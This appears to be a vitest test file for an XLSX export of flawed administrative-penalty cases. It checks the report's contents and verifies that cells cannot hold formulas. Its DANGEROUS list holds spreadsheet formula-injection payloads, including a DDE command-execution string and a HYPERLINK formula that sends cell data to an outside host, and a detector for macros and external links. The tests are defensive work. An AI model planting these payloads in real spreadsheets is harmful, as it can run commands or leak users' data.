import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { FlawedRow } from '../../../main/backend/reports/flawed-list.ts';
import { flawedListXlsx } from '../../../main/backend/reports/flawed-list-xlsx.ts';
import { conclude } from '../../makers/concluding.ts';
import {
  cellsOf,
  nodesOf,
  type OfficeFile,
  openOfficeFile,
  type SheetCell,
} from '../../makers/office-file.ts';
import { caseTemplate, openCase } from '../../makers/reviewed-case.ts';
import { cleanUp, temporaryFolder } from '../../makers/temporary.ts';
import { OFFICE_NAME } from '../../makers/workspace.ts';

const RUNS = process.env.LONG === '1' ? 5000 : 100;
const FIRST_DATA_ROW = 3;

afterAll(cleanUp);

/** Names of elements through which a workbook could compute, fetch or run something. */
const ACTIVE = ['f', 'hyperlink', 'externalReference', 'ddeLink', 'oleLink', 'control', 'legacyDrawing'];

function activeParts(file: OfficeFile): string[] {
  const odd = file.names.filter((name) => /vba|macro|external|connections|embeddings|activeX/i.test(name));
  const elements = file.names
    .filter((name) => name.endsWith('.xml'))
    .flatMap((name) =>
      ACTIVE.filter((element) => nodesOf(file.part(name), element).length > 0).map(
        (element) => `${name}: ${element}`,
      ),
    );
  return [...odd, ...elements];
}

function row(text: string): FlawedRow {
  return {
    caseId: text,
    caseNo: text,
    organ: text,
    caseTitle: text,
    cause: text,
    total: 88.5,
    grade: text,
    determination: text,
    reason: text,
    problems: text,
    basis: text,
    places: text,
    reviewer: text,
    signedAt: text,
    state: text,
  };
}

/** Cells of the data rows that hold words: all but the running number and the score. */
function wordCells(cells: readonly SheetCell[]): SheetCell[] {
  return cells.filter(
    (cell) => Number(cell.place.replace(/^[A-Z]+/, '')) >= FIRST_DATA_ROW && !/^[AF]\d/.test(cell.place),
  );
}

const DANGEROUS = [
  '=HYPERLINK("http://example.com/?"&A1,"点击")',
  "=cmd|'/C calc'!A0",
  '+1',
  '-1+1',
  '@SUM(A1:A9)',
  '＝１＋１',
  '＋1',
  '＠SUM',
  '\t=1+1',
  '\r=1+1',
  ' =1',
  '0012345678901234567890',
  '1E5',
  '2023-05-06',
  'TRUE',
  '#REF!',
  '<f>1+1</f>',
  ']]><f>1</f>',
  '_x003D_1',
  '{{constructor}}',
];

describe('the list of flawed and wrong cases', () => {
  it('reopens with its heading, the flawed case and the identifier that finds it again', async () => {
    const opened = await openCase(await caseTemplate());
    await conclude(opened);
    const path = join(temporaryFolder(), '清单.xlsx');
    const written = await opened.ask('reports.flawedList', {
      reviewId: opened.reviewId,
      target: opened.pick(path),
    });
    const bytes = readFileSync(path);
    expect(written).toEqual({ name: '清单.xlsx', bytes: bytes.byteLength, rows: 1 });
    const file = openOfficeFile(bytes);
    const at = Object.fromEntries(cellsOf(file).map((cell) => [cell.place, cell]));
    expect(at.A1).toMatchObject({ text: '年度评查 瑕疵案件、错案清单' });
    expect([at.A2, at.B2, at.H2].map((cell) => cell?.text)).toEqual(['序号', '案号', '认定']);
    expect([at.B3, at.C3, at.D3, at.E3, at.H3].map((cell) => cell?.text)).toEqual([
      '临市监处罚〔2023〕9号',
      '临溪县市场监督管理局',
      '北塬百货商行案',
      '未按规定明码标价',
      '瑕疵',
    ]);
    expect(at.I3?.text).toBe('1．引用修订前条文或错误条号（实体结果未受影响）\n2．送达超过法定期限');
    expect(at.K3?.text).toContain('行政处罚决定书第1页');
    expect([at.M3?.text, at.O3?.text, at.P3?.text]).toEqual([OFFICE_NAME, '已签封', opened.caseId]);
    expect(at.F3).toMatchObject({ type: 'n' });
    expect(activeParts(file)).toEqual([]);
  });

  it('goes by the determination: a case that passed or is not signed is not on it', async () => {
    const opened = await openCase(await caseTemplate());
    const list = async () =>
      (
        await opened.ask('reports.flawedList', {
          reviewId: opened.reviewId,
          target: opened.pick(join(temporaryFolder(), 'x.xlsx')),
        })
      ).rows;
    expect(await list()).toBe(0);
    await conclude(opened, 'pass');
    expect(await list()).toBe(0);
  });

  it.each(DANGEROUS)('holds %j as words and nothing else', async (text) => {
    const file = openOfficeFile(await flawedListXlsx(text, [row(text)]));
    const words = wordCells(cellsOf(file));
    expect(words).toHaveLength(14);
    for (const cell of words) expect(['s', 'inlineStr', 'str']).toContain(cell.type);
    expect(activeParts(file)).toEqual([]);
  });

  it(`holds any ${RUNS} strings as words: no cell is anything but a string, no formula stands anywhere`, async () => {
    const anything = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 60 }),
      fc.string({ unit: 'grapheme', maxLength: 60 }),
      fc.string({
        unit: fc.constantFrom(
          '=',
          '+',
          '-',
          '@',
          '＝',
          '＋',
          '\t',
          '\r',
          '\n',
          '\u0000',
          '\u000b',
          '"',
          '<',
          '&',
          'A',
          '1',
          '!',
          '\ud800',
          '\uffff',
        ),
        maxLength: 12,
      }),
      fc.constantFrom(...DANGEROUS),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(anything, { minLength: 1, maxLength: 3 }), async (texts) => {
        const file = openOfficeFile(await flawedListXlsx('任意', texts.map(row)));
        const words = wordCells(cellsOf(file));
        expect(words).toHaveLength(14 * texts.length);
        for (const cell of words)
          if (cell.type !== 's' && cell.type !== 'inlineStr')
            throw new Error(`${cell.place} is of type ${cell.type}`);
        expect(activeParts(file)).toEqual([]);
      }),
      { numRuns: RUNS },
    );
  });

  it('keeps plain words as they are', async () => {
    const plain = fc.string({
      unit: fc.constantFrom(...'案卷评查〔2023〕第9号（一）：=+@<&>"\' \n'),
      minLength: 1,
      maxLength: 40,
    });
    await fc.assert(
      fc.asyncProperty(plain, async (text) => {
        const words = wordCells(cellsOf(openOfficeFile(await flawedListXlsx('任意', [row(text)]))));
        expect(new Set(words.map((cell) => cell.text))).toEqual(new Set([text]));
      }),
      { numRuns: 60 },
    );
  });

  it('never puts more into a cell than a spreadsheet takes', async () => {
    const longest = 32_767;
    const words = wordCells(
      cellsOf(openOfficeFile(await flawedListXlsx('任意', [row('长'.repeat(longest + 5000))]))),
    );
    expect(Math.max(...words.map((cell) => cell.text.length))).toBeLessThanOrEqual(longest);
  });
});
